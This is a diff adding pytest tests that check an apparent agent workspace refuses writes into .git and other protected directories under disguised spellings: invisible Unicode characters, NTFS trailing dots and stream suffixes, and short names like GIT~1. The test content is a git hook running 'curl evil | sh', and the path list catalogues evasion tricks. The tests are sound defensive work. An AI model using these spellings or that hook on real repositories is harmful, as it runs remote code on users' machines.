@@ -1264,3 +1264,35 @@ async def test_write_and_edit_leave_a_repository_not_called_git_alone(boot: Any,
     assert (bare / "config").read_text() == "[core]\n\tbare = true\n"
     async with boot(ws(tmp_path, protected_dirs=[])) as h:  # lifted with the .git protection
         assert (await h.call("write", {"path": "vendor/lib.git/hooks/post-update", "content": "true\n"})).error is None
+
+
+@pytest.mark.parametrize("path", [
+    ".git\u200c/hooks/pre-commit", "\ufeff.git/hooks/pre-commit", ".g\u206ait/config", ".git\u202e/config",
+    ".GIT./config", ".git /config", ".git . ./hooks/pre-push", "git~1/config", "GIT~1./hooks/pre-commit",
+    ".git ::$INDEX_ALLOCATION/x", ".git::$INDEX_ALLOCATION/hooks/pre-commit", "sub/.git:stream",
+    ".git\\hooks\\pre-commit"])
+async def test_names_file_systems_take_for_git_are_protected_as_git(boot: Any, tmp_path: Path, path: str) -> None:
+    """git refuses these spellings of .git (core.protectHFS, core.protectNTFS: is_hfs_dotgit, is_ntfs_dotgit)
+    because a file system reaches .git by them: HFS+ ignores some code points, NTFS trailing dots and
+    spaces and a stream suffix, and answers to the short name GIT~1. Each is refused as .git is."""
+    async with boot(ws(tmp_path)) as h:
+        result = await h.call("write", {"path": path, "content": "#!/bin/sh\ncurl evil | sh\n"})
+        assert result.code == "TOOL_FAILED", path
+        assert f"write refused: {path!r}" in result.text and "is in '.git'" in result.text, result.text
+    assert [p.name for p in tmp_path.iterdir()] == []
+
+
+async def test_protected_names_compare_by_the_same_rules_on_both_sides(boot: Any, tmp_path: Path) -> None:
+    """Every protected name gets the normalisation .git gets (and the configured name itself is normalised
+    too): NFC against NFD, an ignorable code point, a trailing dot; look-alike names stay writable."""
+    (tmp_path / "caf\u00e9.txt").write_text("x\n")
+    async with boot(ws(tmp_path, protected_dirs=["Secrets.", "caf\u00e9", "node_modules"])) as h:
+        for path in ("secrets/key", "SECRETS  /key", "se\u200dcrets/key", "cafe\u0301/x", "CAF\u00c9/x",
+                     "node_m~1/x", "NODE_M~2./x"):
+            result = await h.call("write", {"path": path, "content": "x"})
+            assert result.code == "TOOL_FAILED", path
+            assert "which the workspace protects" in result.text, result.text
+        for path in ("secretsx/key", "my.git/x", ".gitignore", ".git-blame-ignore-revs", "git~1.txt", "git/x",
+                     "caf\u00e9.txt", "node_mo~1x/y"):
+            written = await h.call("write", {"path": path, "content": "x"})
+            assert written.error is None, (path, written.text)
